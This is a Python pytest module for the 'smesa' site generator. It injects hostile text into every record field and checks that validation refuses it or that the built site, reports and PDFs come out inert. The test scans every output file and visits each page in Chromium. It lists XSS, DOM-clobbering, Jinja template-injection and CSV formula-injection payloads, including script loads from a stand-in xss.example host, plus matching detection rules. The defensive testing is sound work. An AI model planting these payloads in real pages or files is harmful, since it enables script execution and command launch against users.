"""The adversarial suite (issue 9): hostile text in every string field of every record
kind, in both languages, then `smesa check`, a real site build, `smesa report`, a scan
of every file written and a real Chromium visit of every page.

The contract, for each payload in each field: either `smesa check` refuses it with a
located error finding (file, line, column, rule) and `smesa build` refuses the
repository too, or the build succeeds and what it writes is inert: no script but the
theme's, no event handler, no javascript:/data:/vbscript: URL, no frame, object, form,
base or refresh, no element id or name that clobbers the theme's, nothing fetched from
another host, no spreadsheet formula in a CSV cell; Chromium shows no dialog, logs no
console or page error and asks no host but 127.0.0.1 for anything. What the theme
writes by itself (its scripts, ids, elements, static files) is learnt from a build of
the baseline rather than listed: a script or stylesheet that differs from that build's
depends on the data and is flagged, the theme's own assets (Material's bundle, lunr,
Pagefind's files) are the same bytes and are not.

The fields come from the models: tests/hostile.py walks every model of
`smesa.data.models.BY_FOLDER` through its nested models and lists, so a field added to a
model gets every payload without a change here. Few builds:

1. Classify, without a build: each payload alone in a record of every kind, all in one
   repository, checked in-process; each error is put on the field whose YAML lines hold
   it, and the payload is refused there. Rounds repeat without the refused fields (a
   file that does not load hides the findings of its other fields).
2. Build what the check accepts: per payload family and kind, records whose fields hold
   the family's accepted payloads joined by blank lines (each its own Markdown block); a
   field whose type takes less (an APEC reference of 120 characters, a URL without
   spaces) takes them in turns, in further records of the family. One build, one report
   per year. Allowed scripts, ids and elements are those of a build of the baseline.
3. Every repository of step 1 (and of step 2's rounds) that the check refused must fail
   to build, printing the same located findings.
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import csv
import datetime as dt
import io
import json
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
import zlib
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import markdown
import pytest
from selectolax.lexbor import LexborHTMLParser, LexborNode

from smesa.check.findings import Finding
from smesa.data import models
from smesa.data.repository import load_repository
from smesa.report.annual import report_years
from tests import hostile
from tests.browser.local_site import copy_site_sources, launch_chromium, serve
from tests.conftest import ROOT, TODAY, RepoFactory, baseline, check

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
# What `{{ 'Tmpl' ~ 'Evaluated' }}` and its kin print only when a template engine runs them.
EVALUATED = "TmplEvaluated"

FAMILIES: dict[str, list[str]] = {
    # A control: plain text every field takes.
    "control": ["Plain words and a number 42."],
    # OWASP XSS filter evasion cheat sheet classics.
    "html": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        '<img src="x.png"onerror=alert(1)>',
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<iframe src="javascript:alert(1)"></iframe>',
        f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>',
        f'<embed src="data:text/html;base64,{B64_SCRIPT}">',
        '<base href="javascript:alert(1)//">',
        '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x'
        "</button></form>",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        '"><script>alert(1)</script>',
        "'\"><img src=x onerror=alert(1)>",
        "</title><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
        '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
        '<img srcset="x 1x, javascript:alert(1) 2x">',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<a id="__drawer" name="__search" href="#">x</a>',
        '<img src="https://xss.example/x.png">',
    ],
    # Markdown links and bare URLs with active schemes.
    "links": [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](jav\tascript:alert(1))",
        f"[x](data:text/html;base64,{B64_SCRIPT})",
        "[x](vbscript:msgbox(1))",
        "![x](javascript:alert(1))",
        "![x](https://xss.example/x.png)",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "javascript:alert(1)",
        f"data:text/html;base64,{B64_SCRIPT}",
        "<javascript:alert(1)>",
        '[x](https://example.org/"onmouseover="alert(1))',
        'https://example.org/"onmouseover="alert(1)',
        "https://example.org/'><svg/onload=alert(1)>",
    ],
    # Links to pages and images that do not exist: MkDocs' strict mode refuses them.
    "relative": ["[x](missing-page.md)", "![x](missing.png)"],
    # attr_list: ids, classes and attributes from contributor text.
    "attr-list": [
        "## Results {: id='__drawer\"><svg onload=alert(document.domain) x=' }",
        "## Results {: #__search }",
        'Text\n{: onclick="alert(1)" }',
        "[x](y){: onmouseover=alert(1)}",
        "![x](y.png){: onerror=alert(1)}",
        "## Heading {#__config}",
        "## Heading {: .md-nav data-md-component=toc }",
        "- item\n{: onmouseover=alert(1) }",
    ],
    # Markdown blocks: HTML blocks, footnotes, abbreviations, admonitions, code, TOC.
    "markdown": [
        '<div markdown="1"><script>alert(1)</script></div>',
        '<div markdown="1">\n## Inside {#__drawer}\n</div>',
        "x[^1]\n\n[^1]: [y](javascript:alert(1))",
        "x[^__drawer]\n\n[^__drawer]: note",
        "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML",
        '*[HTML]: " onmouseover="alert(1)\n\nHTML',
        '!!! note "<img src=x onerror=alert(1)>"\n    text',
        '??? note "\\" onclick=\\"alert(1)"\n    text',
        '```{.python onclick="alert(1)" #__drawer}\nprint(1)\n```',
        "``` { #__search .js }\nx\n```",
        "## `<img src=x onerror=alert(1)>`",
        "## &lt;img src=x onerror=alert(1)&gt;",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "`</code><script>alert(1)</script>`",
        "## __drawer",
        "## __search\n\n## __toc\n\n## __config",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
        "---\nsmesa: generated\ntitle: x\n---",
    ],
    # Template syntax of Jinja (MkDocs, our generator), JavaScript and others.
    "template": [
        "{{ 'Tmpl' ~ 'Evaluated' }}",
        "{{ 7*7 }}",
        "{% raw %}",
        "{% endraw %}{{ 'Tmpl' ~ 'Evaluated' }}",
        "{{ config.__class__.__init__.__globals__ }}",
        "{%- if true -%}Tmpl{{ 'Evaluated' }}{%- endif -%}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{",
        "}}{{",
    ],
    # Comments, CDATA and their ends.
    "comments": [
        "<!--",
        "<!-- <script>alert(1)</script> -->",
        "-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "]]>",
        "]]><script>alert(1)</script>",
    ],
    # Characters: controls, bidi overrides, invisibles, long words, odd Unicode.
    "characters": [
        "a\x00b",
        "a\x07b\x08c",
        "a\x0bb\x0cc",
        "\x1b[31mred\x1b[0m",
        "a\x7fb",
        "a\x85b",
        "a\u2028b\u2029c",
        "\ufeffBOM",
        "a\ufffeb",
        "a\rb",
        "abc\u202edcba",
        "\u2066evil\u2069",
        "\u200fRTL\u061c",
        "a\u200bb\u2060c\u00add",
        "A" * 20000,
        "[" * 1000,
        "👩‍💻 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 Z̴̡̪̫̖",
        "$x^{$",
    ],
    # Spreadsheet formulas (OWASP CSV injection).
    "csv": [
        '=HYPERLINK("https://xss.example/","x")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
}


@dataclass(frozen=True)
class Payload:
    number: int
    family: str
    text: str


CORPUS = [
    Payload(n, family, text)
    for n, (family, text) in enumerate(
        (family, text) for family, texts in FAMILIES.items() for text in texts
    )
]
KINDS = list(models.BY_FOLDER.values())
PRESIDIUM_ID = "presidium-2025-2028"
BENIGN = ["Plain words.", "https://example.org/plain", "plain@example.org"]


def forms(texts: list[str]) -> list[str]:
    """The values a field may take the texts in: Markdown blocks, a URL, an address."""
    return ["\n\n".join(texts), "https://example.org/" + "".join(texts), "".join(texts) + "@x.org"]


# -- placing payloads -----------------------------------------------------------------

Key = tuple[int, type, tuple]  # payload number, record model, slot path (lists at 0)


@dataclass(frozen=True)
class Placed:
    """Which payloads one field of one record file holds, on which YAML lines."""

    file: str
    slot: hostile.Slot
    key: tuple  # (model, path) of the field, lists at their first element
    payloads: tuple[int, ...]
    lines: tuple[int, int]


@dataclass
class Repo:
    files: dict[str, Any]  # the baseline's records
    raw: dict[str, str]  # the hostile records, as YAML text
    placed: list[Placed]
    errors: list[Finding] = field(default_factory=list)
    root: Path | None = None

    def attribute(self) -> tuple[list[tuple[Placed, Finding]], list[Finding]]:
        """Each error on the fields it lies in; an error in a hostile file off every
        field's lines (a file that does not parse, say) on all of that file's fields."""
        by_file: dict[str, list[Placed]] = {}
        for placed in self.placed:
            by_file.setdefault(placed.file, []).append(placed)
        hits, stray = [], []
        for error in self.errors:
            fields = by_file.get(error.path)
            if fields is None:
                stray.append(error)
                continue
            inside = [p for p in fields if p.lines[0] <= error.line <= p.lines[1]]
            hits += [(p, error) for p in inside or fields]
        return hits, stray


# A published report's page carries the figures of its year, every record of the year
# listed: hostile reports of 2025 would each repeat every hostile record (forty pages of
# 700 KB). They report on 2026, which holds no other hostile record; the figures of 2025
# with every hostile record are on the baseline's report page and in `smesa report 2025`.
REPORT_YEAR = 2026
REPORT_DAY = dt.date(2026, 3, 31)


def _record(model: type[models.Record], record_id: str, fill) -> hostile.Made:
    made = hostile.make_record(model, record_id, fill, status="published")
    if model is models.Report:
        made.data.update(year=REPORT_YEAR, submitted=REPORT_DAY, published=REPORT_DAY.replace())
        assert made.data["submitted"] is not made.data["published"]  # a YAML alias otherwise
        model.model_validate(made.data)
    return made


def _placed(made: hostile.Made, text: str, origin) -> list[Placed]:
    """`origin(slot, value)`: (key, payloads) of a placed slot."""
    lines = hostile.slot_lines(text, made.placed)
    out = []
    for slot, value in made.placed.items():
        key, payloads = origin(slot, value)
        if payloads:
            out.append(Placed(made.path, slot, key, payloads, lines[slot]))
    return out


def _assemble(records: list[tuple[hostile.Made, Any]], presidia) -> Repo:
    """The baseline with `records` and one Presidium merged from `presidia` (its
    advisor i from presidia[i]); each with its origin function (see _placed)."""
    files: dict[str, Any] = baseline()
    raw: dict[str, str] = {}
    placed: list[Placed] = []
    for made, origin in records:
        raw[made.path] = hostile.dump(made.data)
        placed += _placed(made, raw[made.path], origin)
    merged = hostile.merge_singleton([made for made, _ in presidia])
    files.pop(merged.path)
    raw[merged.path] = hostile.dump(merged.data)
    lines = hostile.slot_lines(raw[merged.path], merged.placed)
    for slot, value in merged.placed.items():
        index = slot.path[1]
        original = hostile.Slot(slot.model, (slot.path[0], 0, *slot.path[2:]), slot.language)
        made, origin = presidia[index]
        assert len(made.data[slot.path[0]]) == 1
        key, payloads = origin(original, value)
        if payloads:
            placed.append(Placed(merged.path, slot, key, payloads, lines[slot]))
    return Repo(files, raw, placed)


def single_repo(refused: dict[Key, Finding]) -> Repo:
    """Each payload alone in a record of every kind (step 1)."""
    records, presidia = [], []
    for payload in CORPUS:
        for model in KINDS:

            def fill(slot, payload=payload):
                if (payload.number, slot.model, slot.path) in refused:
                    return BENIGN
                return [*forms([payload.text]), *BENIGN]  # BENIGN: the type takes no form

            def origin(slot, value, payload=payload):
                held = value in forms([payload.text])
                return (slot.model, slot.path), (payload.number,) if held else ()

            if model in hostile.SINGLETONS:
                presidia.append((_record(model, PRESIDIUM_ID, fill), origin))
            else:
                made = _record(model, f"single-{payload.number:03d}", fill)
                records.append((made, origin))
    return _assemble(records, presidia)


@dataclass(frozen=True)
class Chunk:
    value: str
    payloads: tuple[int, ...]


def pack(slot: hostile.Slot, payloads: list[Payload]) -> list[Chunk]:
    """The payloads in as few values as `slot`'s type takes (see forms)."""
    chunks: list[Chunk] = []
    current: list[Payload] = []

    def value(group: list[Payload]) -> str | None:
        return next((v for v in forms([p.text for p in group]) if slot.accepts(v)), None)

    for payload in payloads:
        if current and value([*current, payload]) is not None:
            current.append(payload)
            continue
        if current:
            chunks.append(Chunk(value(current), tuple(p.number for p in current)))
        current = [payload] if value([payload]) is not None else []
    if current:
        chunks.append(Chunk(value(current), tuple(p.number for p in current)))
    return chunks


def grouped_repo(accepted: set[Key], dropped: set[Key]) -> Repo:
    """Per family and kind, records holding the accepted payloads (step 2); `dropped`:
    refused in combination."""
    records, presidia = [], []
    for family in FAMILIES:
        payloads = [p for p in CORPUS if p.family == family]
        for model in KINDS:
            chunks = {
                slot.path: pack(
                    slot,
                    [p for p in payloads if (p.number, model, slot.path) in accepted - dropped],
                )
                for slot in hostile.slots(model)
            }
            for j in range(max(1, *map(len, chunks.values()))):

                def fill(slot, j=j, chunks=chunks):
                    held = chunks.get(slot.path, [])
                    return [held[j].value] if j < len(held) else BENIGN

                def origin(slot, value, j=j, chunks=chunks):
                    held = chunks.get(slot.path, [])
                    return (slot.model, slot.path), held[j].payloads if j < len(held) else ()

                if model in hostile.SINGLETONS:
                    presidia.append((_record(model, PRESIDIUM_ID, fill), origin))
                else:
                    made = _record(model, f"hostile-{family}-{j}", fill)
                    records.append((made, origin))
    return _assemble(records, presidia)


@dataclass
class Classification:
    refused: dict[Key, Finding]  # payload refused by the check in that field
    accepted: set[Key]  # payload in that field reached the build
    unfit: set[Key]  # the field's type takes no form of the payload
    dropped: dict[Key, Finding]  # accepted alone, refused next to its family
    refusing: list[Repo]  # repositories the check refused: each must fail to build
    stray: list[Finding]  # errors outside the hostile records
    built: Repo | None = None


def checked(repo: Repo, factory: RepoFactory) -> Repo:
    repo.root = factory(repo.files, raw=repo.raw)
    repo.errors = [f for f in check(repo.root) if f.is_error]
    return repo


@pytest.fixture(scope="module")
def classification(tmp_path_factory: pytest.TempPathFactory) -> Classification:
    return classify(RepoFactory(tmp_path_factory.mktemp("adversarial")))


def classify(factory: RepoFactory) -> Classification:
    """Steps 1 and 2 of the module docstring, up to the repository to build."""
    every: set[Key] = {
        (p.number, model, slot.path)
        for p in CORPUS
        for model in KINDS
        for slot in hostile.slots(model)
    }
    refused: dict[Key, Finding] = {}
    refusing: list[Repo] = []
    placed: set[Key] = set()
    for _ in range(8):
        repo = checked(single_repo(refused), factory)
        placed = {(n, *p.key) for p in repo.placed for n in p.payloads}
        hits, _ = repo.attribute()
        if not repo.errors:
            break
        refusing.append(repo)
        for where, error in hits:
            for n in where.payloads:
                refused.setdefault((n, *where.key), error)
        if not hits:
            break
    unresolved = list(repo.errors)  # errors no round could put on a field
    unfit = every - placed - set(refused)
    dropped: dict[Key, Finding] = {}
    for _ in range(4):
        repo = checked(grouped_repo(placed, set(dropped)), factory)
        if not repo.errors:
            break
        refusing.append(repo)
        hits, _ = repo.attribute()
        for where, error in hits:
            for n in where.payloads:
                dropped.setdefault((n, *where.key), error)
        if not hits:
            break
    accepted = {(n, *p.key) for p in repo.placed for n in p.payloads}
    result = Classification(
        refused, accepted, unfit, dropped, refusing, unresolved + repo.errors, repo
    )
    return result


# -- builds ---------------------------------------------------------------------------


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "smesa.cli", *args],
        cwd=cwd,
        env={**os.environ, "NO_MKDOCS_2_WARNING": "1"},
        capture_output=True,
        text=True,
        check=False,
    )


SITE_SOURCES = ("mkdocs.yml", "overrides", "hooks")


@dataclass
class Built:
    root: Path
    done: subprocess.CompletedProcess[str]
    reports: dict[int, Path] = field(default_factory=dict)
    report_runs: dict[int, subprocess.CompletedProcess[str]] = field(default_factory=dict)
    # Builds that failed before this one: the payloads then left out, and why.
    failed: list[tuple[list[tuple[int, str]], str]] = field(default_factory=list)

    @property
    def site(self) -> Path:
        return self.root / "site"


def build(root: Path, *, reports: bool = True) -> Built:
    if not (root / "mkdocs.yml").exists():
        copy_site_sources(ROOT, root, names=SITE_SOURCES)
    built = Built(root, run("build", "--today", TODAY.isoformat(), cwd=root))
    if reports:
        for year in report_years(load_repository(root, TODAY)):
            out = root / "annual" / str(year)
            built.reports[year] = out
            built.report_runs[year] = run(
                "report", str(year), "--today", TODAY.isoformat(), "--out", str(out), cwd=root
            )
    return built


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """The baseline, built: what the theme writes by itself."""
    built = build(RepoFactory(tmp_path_factory.mktemp("clean"))(baseline()))
    assert built.done.returncode == 0, built.done.stderr[-3000:]
    return built


QUOTED = re.compile(r"'([^'\n]{3,})'")
HOSTILE_FILE = re.compile(r"hostile-([a-z]+(?:-[a-z]+)*)-\d+")


def squeezed(text: str) -> str:
    return " ".join(text.split())


def suspects(stderr: str, numbers: set[int]) -> tuple[set[int], set[int]]:
    """What the messages of a failed build point at, among the payloads `numbers`: the
    payloads holding a text they quote (a heading id, a link target, a script), which
    may be more than broke it; else the payloads of the families whose pages they
    name, to search."""
    # The build's own lines, not the findings it prints first (data/...: warning ...);
    # a file of the build (en/about/index.md) is no payload, a link in one may be.
    own = "\n".join(line for line in stderr.splitlines() if not line.startswith("data/"))
    quoted = {squeezed(q) for q in QUOTED.findall(own) if not re.fullmatch(r"(en|zh)/[\w/.-]+", q)}
    payloads = [p for p in CORPUS if p.number in numbers]
    named = {p.number for p in payloads for q in quoted if q in squeezed(p.text)}
    families = set(HOSTILE_FILE.findall(own))
    wide = {p.number for p in payloads if p.family in families}
    return named, wide or numbers


@pytest.fixture(scope="module")
def hostile_build(
    classification: Classification, tmp_path_factory: pytest.TempPathFactory
) -> Built:
    return build_accepted(classification, RepoFactory(tmp_path_factory.mktemp("rebuilt")))


MAX_BUILDS = 14  # bounds the search for what broke a build (about ten seconds each)


Unit = tuple[int, str]  # a payload in the bilingual texts ("text") or the other fields


def unit(key: Key) -> Unit:
    return key[0], "text" if key[2][-1] in hostile.LANGUAGES else "other"


def build_accepted(classification: Classification, factory: RepoFactory) -> Built:
    """The build of every accepted payload. Should it fail, what its messages quote
    (payloads in the other string fields first, then in the texts), else what a
    bisection finds, is left out and the rest built again, so that it is still
    scanned; `failed` says what and why."""
    keys = classification.accepted
    dropped = set(classification.dropped)

    def attempt(units: set[Unit]) -> Built:
        kept = {k for k in keys if unit(k) in units}
        repo = checked(grouped_repo(kept, dropped), factory)
        assert repo.root is not None
        return build(repo.root, reports=False)

    units = {unit(key) for key in keys}
    failed: list[tuple[list[Unit], str]] = []
    assert classification.built is not None and classification.built.root is not None
    built = build(classification.built.root, reports=False)
    builds = 1
    while built.done.returncode != 0 and builds < MAX_BUILDS:
        named, wide = suspects(built.done.stderr, {n for n, _ in units})
        culprits = {u for u in units if u[0] in named and u[1] == "other"}
        culprits = culprits or {u for u in units if u[0] in named}
        if not culprits:  # nothing quoted: halve the suspects, keep a failing half
            search = sorted(u for u in units if u[0] in wide)
            while len(search) > 1 and builds < MAX_BUILDS:
                half = search[: len(search) // 2]
                builds += 1
                failing = attempt(set(half)).done.returncode != 0
                search = half if failing else search[len(half) :]
            culprits = set(search)
        failed.append((sorted(culprits), built.done.stderr))
        units -= culprits
        built = attempt(units)
        builds += 1
    built = build(built.root)  # again, with the reports
    built.failed = failed
    return built


@pytest.fixture(scope="module")
def hostile_site(hostile_build: Built) -> Path:
    assert hostile_build.done.returncode == 0, "the build of accepted payloads failed"
    return hostile_build.site


# -- the scanner ----------------------------------------------------------------------

URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "srcset",
    "imagesrcset",
    "poster",
    "data",
    "background",
    "cite",
    "ping",
    "longdesc",
    "lowsrc",
    "dynsrc",
    "manifest",
    "codebase",
    "archive",
    "icon",
}
ACTIVE_SCHEMES = ("javascript:", "data:", "vbscript:")
# Attributes a browser fetches at once: another host there is a third-party request.
RESOURCE_ATTRIBUTES = {"src", "srcset", "imagesrcset", "poster", "data", "background"}
REMOTE = ("http:", "https:", "//", "\\\\")
FORBIDDEN = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "form", "portal"}
# SVG elements that run or set attributes (a link's href, a handler): lowercase here.
FORBIDDEN |= {"foreignobject", "animate", "set", "animatemotion", "animatetransform", "handler"}
CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
LINK_RESOURCE = {"stylesheet", "preload", "modulepreload", "prefetch", "import", "manifest"}


@dataclass(frozen=True)
class Offence:
    file: str
    rule: str
    detail: str

    def __str__(self) -> str:
        return f"{self.file}: {self.rule}: {self.detail[:160]!r}"


@dataclass
class Theme:
    """What pages of a build of the baseline hold: the theme's own markup."""

    scripts: set[tuple] = field(default_factory=set)
    styles: set[str] = field(default_factory=set)
    links: set[tuple] = field(default_factory=set)
    ids_outside: set[str] = field(default_factory=set)
    tags_outside: set[str] = field(default_factory=set)

    def learn(self, html: str) -> None:
        page = Page(html)
        for node in page.nodes:
            if node.tag == "script":
                self.scripts.add(script_key(node))
            elif node.tag == "style":
                self.styles.add(node.text() or "")
            elif node.tag == "link":
                self.links.add(link_key(node))
            if node.mem_id not in page.content_ids:
                self.tags_outside.add(node.tag)
                self.ids_outside.update(page.names(node))


def script_key(node: LexborNode) -> tuple:
    return (tuple(sorted(node.attributes.items())), node.text() or "")


def link_key(node: LexborNode) -> tuple:
    rel = (node.attributes.get("rel") or "").lower()
    resource = node.attributes.get("href") if set(rel.split()) & LINK_RESOURCE else None
    return (rel, node.attributes.get("as"), node.attributes.get("type"), resource)


class Page:
    """An HTML page's elements, and which of them are the page content (not the theme)."""

    def __init__(self, html: str, *, fragment: bool = False) -> None:
        self.tree = LexborHTMLParser(html)
        self.nodes = [n for n in self.tree.root.traverse() if n.tag and n.tag[0] != "-"]
        content = None if fragment else self.tree.css_first("article.md-content__inner")
        if content is None:
            self.content_ids = {n.mem_id for n in self.nodes}
        else:
            self.content_ids = {n.mem_id for n in content.traverse()}

    @staticmethod
    def names(node: LexborNode) -> set[str]:
        return {v for k, v in node.attributes.items() if k in ("id", "name") and v}


def squeezed_url(value: str) -> str:
    """A URL as a browser reads it: tabs and newlines dropped anywhere, controls and
    spaces at its ends, in lower case."""
    controls = "".join(map(chr, range(0x21)))
    return re.sub(r"[\t\n\r]", "", value).strip(controls).lower()


def active_url(value: str) -> bool:
    """True for a javascript:, data: or vbscript: URL."""
    return squeezed_url(value).startswith(ACTIVE_SCHEMES)


def url_values(name: str, value: str) -> list[str]:
    if name in ("srcset", "imagesrcset"):
        return [part.strip().split(" ")[0] for part in value.split(",")]
    return [value]


def scan_html(file: str, html: str, theme: Theme, *, fragment: bool = False) -> list[Offence]:
    """Active content in one HTML document (or fragment) that `theme` does not have."""
    page = Page(html, fragment=fragment)
    found: list[Offence] = []

    def offence(rule: str, node: LexborNode, why: str = "") -> None:
        found.append(Offence(file, rule, f"{why}{node.html or node.tag}"))

    theme_names = set()
    for node in page.nodes:
        if node.mem_id not in page.content_ids:
            theme_names |= page.names(node)
    for node in page.nodes:
        tag, attributes = node.tag, node.attributes
        inside = node.mem_id in page.content_ids
        if tag == "script" and script_key(node) not in theme.scripts:
            offence("script", node)
        if tag == "style" and (node.text() or "") not in theme.styles:
            offence("element", node)
        if tag == "link" and link_key(node) not in theme.links:
            offence("element", node)
        if tag.lower() in FORBIDDEN or (
            tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh"
        ):
            offence("element", node)
        for name, value in attributes.items():
            lowered = name.lower()
            if lowered.startswith("on"):
                offence("handler", node, f"{name}: ")
            if (
                lowered in URL_ATTRIBUTES
                and value
                and any(active_url(v) for v in url_values(lowered, value))
            ):
                offence("url", node, f"{name}: ")
            if lowered in RESOURCE_ATTRIBUTES and value:
                for url in url_values(lowered, value):
                    if squeezed_url(url).startswith(REMOTE):
                        offence("external", node, f"{name}: ")
            if lowered == "style" and value and re.search(r"url\(|expression\(", value, re.I):
                offence("url", node, "style: ")
        names = page.names(node)
        if inside:
            for name in names:
                if name.startswith("__") or name in theme_names:
                    offence("clobbering", node, f"{name}: ")
        else:
            if tag not in theme.tags_outside:
                offence("element", node, "outside the content: ")
            for name in names - theme.ids_outside:
                offence("clobbering", node, f"{name} outside the content: ")
    if EVALUATED in html:
        found.append(Offence(file, "template", EVALUATED))
    return found


def scan_xml(file: str, data: bytes) -> list[Offence]:
    """Well-formed XML without script, handler or active URL; Atom HTML content as HTML."""
    try:
        root = ET.fromstring(data)
    except ET.ParseError as error:
        return [Offence(file, "well-formed", str(error))]
    found = []
    for element in root.iter():
        tag = element.tag.rsplit("}", 1)[-1].lower()
        if tag in ("script", "foreignobject", "iframe", "object", "embed", "handler"):
            found.append(Offence(file, "element", tag))
        for name, value in element.attrib.items():
            local = name.rsplit("}", 1)[-1].lower()
            if local.startswith("on"):
                found.append(Offence(file, "handler", f"{tag} {name}={value}"))
            if local in URL_ATTRIBUTES and active_url(value):
                found.append(Offence(file, "url", f"{tag} {name}={value}"))
        if element.attrib.get("type") in ("html", "xhtml"):
            inner = element.text or ""
            if element.attrib["type"] == "xhtml":
                inner = "".join(ET.tostring(child, "unicode") for child in element)
            found += scan_html(f"{file} <{tag}>", inner, Theme(), fragment=True)
    if EVALUATED.encode() in data:
        found.append(Offence(file, "template", EVALUATED))
    return found


def scan_json(file: str, data: bytes) -> list[Offence]:
    data = data.removeprefix(b"pagefind_dcd")  # the signature of Pagefind's fragments
    try:
        document = json.loads(data)
    except (ValueError, UnicodeDecodeError) as error:
        return [Offence(file, "well-formed", str(error))]
    found = []
    if file.startswith("pagefind/fragment/"):
        # Its text is escaped where the search page shows it (the Chromium visit
        # searches the payloads); its addresses are followed or fetched as they are.
        meta = document.get("meta") or {}
        for name, value in (("url", document.get("url", "")), ("image", meta.get("image"))):
            if not isinstance(value, str):
                continue
            url = squeezed_url(value)
            if active_url(url) or url.startswith(REMOTE) or (name == "url" and url[:1] != "/"):
                found.append(Offence(file, "search-index", f"{name}: {value}"))
    if EVALUATED.encode() in data:
        found.append(Offence(file, "template", EVALUATED))
    return found


def scan_csv(file: str, text: str) -> list[Offence]:
    """Cells a spreadsheet would run as a formula (OWASP CSV injection); a plain number
    such as -1 is a number, not a formula."""
    found = []
    for number, row in enumerate(csv.reader(io.StringIO(text, newline=""))):
        for cell in row:
            if cell.startswith(CSV_TRIGGERS) and not NUMBER.fullmatch(cell):
                found.append(Offence(file, "csv", f"row {number}: {cell}"))
    return found


# PDF names are case-sensitive (a font's glyph may be /aa). /OpenAction is left out:
# fpdf2 opens the document at a page with it (a destination, no action).
PDF_ACTIVE = re.compile(
    rb"/(JavaScript|JS|Launch|SubmitForm|ImportData|AA)(?![A-Za-z0-9])|(?i:javascript:)"
)


def scan_pdf(file: str, data: bytes) -> list[Offence]:
    """No script, launch, form submission or automatic action in a PDF (its streams
    inflated too)."""
    parts = [data]
    for stream in re.finditer(rb"stream\r?\n(.*?)endstream", data, re.S):
        with contextlib.suppress(zlib.error):
            parts.append(zlib.decompress(stream.group(1)))
    return [
        Offence(file, "pdf", match.group().decode("latin-1"))
        for part in parts
        for match in PDF_ACTIVE.finditer(part)
    ]


BINARY = (".wasm", ".pagefind", ".pf_index", ".pf_meta", ".png", ".ico", ".jpg", ".woff2", ".ttf")


def scan_folder(folder: Path, theme: Theme, clean: Path | None) -> list[Offence]:
    """Every file under `folder`: HTML, XML, SVG, JSON, CSV and PDF scanned; scripts and
    styles that a build of the baseline (`clean`) did not write the same are flagged."""
    found: list[Offence] = []
    for path in hostile.files_under(folder):
        rel = path.relative_to(folder).as_posix()
        data = hostile.read_bytes(path)
        suffix = rel.removesuffix(".gz").rsplit(".", 1)[-1].lower() if "." in rel else ""
        text = data.decode("utf-8", errors="replace")
        if suffix == "html":
            found += scan_html(rel, text, theme)
        elif suffix in ("xml", "svg"):
            found += scan_xml(rel, data)
        elif suffix in ("json", "map") or rel.startswith("pagefind/fragment/"):
            found += scan_json(rel, data)
        elif suffix == "csv":
            found += scan_csv(rel, text)
        elif suffix == "pdf":
            found += scan_pdf(rel, data)
        elif suffix == "md":
            rendered = markdown.markdown(text, extensions=["tables", "attr_list"])
            found += scan_html(f"{rel} (rendered)", rendered, theme, fragment=True)
        elif suffix in ("js", "mjs", "css") and clean is not None:
            same = clean / rel
            if not same.is_file() or same.read_bytes() != path.read_bytes():
                found.append(Offence(rel, "data-script", "differs from a build of the baseline"))
        elif not rel.endswith(BINARY) and EVALUATED.encode() in data:
            found.append(Offence(rel, "template", EVALUATED))
    return found


def theme_of(folder: Path) -> Theme:
    theme = Theme()
    for path in folder.rglob("*.html"):
        theme.learn(path.read_text("utf-8"))
    return theme


@pytest.fixture(scope="module")
def site_theme(clean: Built) -> Theme:
    return theme_of(clean.site)


@pytest.fixture(scope="module")
def site_offences(hostile_site: Path, clean: Built, site_theme: Theme) -> list[Offence]:
    return scan_folder(hostile_site, site_theme, clean.site)


def payloads_in(file: str) -> str:
    """The family a hostile page or file comes from, for the failure message."""
    found = re.search(r"hostile-([a-z-]+)-\d+", file)
    return found.group(1) if found else "lists and shared pages"


def report(offences: list[Offence]) -> str:
    by_family = Counter(payloads_in(o.file) for o in offences)
    lines = [f"{len(offences)} offence(s); by family: {dict(by_family)}"]
    lines += [str(o) for o in offences[:60]]
    return "\n".join(lines)


# -- the suite's size ------------------------------------------------------------------


def test_the_corpus_reaches_every_kind_and_field(classification: Classification, capsys):
    fields = {model: hostile.slots(model) for model in KINDS}
    texts = sum(1 for slots in fields.values() for s in slots if s.language)
    others = sum(1 for slots in fields.values() for s in slots if not s.language)
    stamps = sum(1 for slots in fields.values() for s in slots if s.path[-1] == "zh_source")
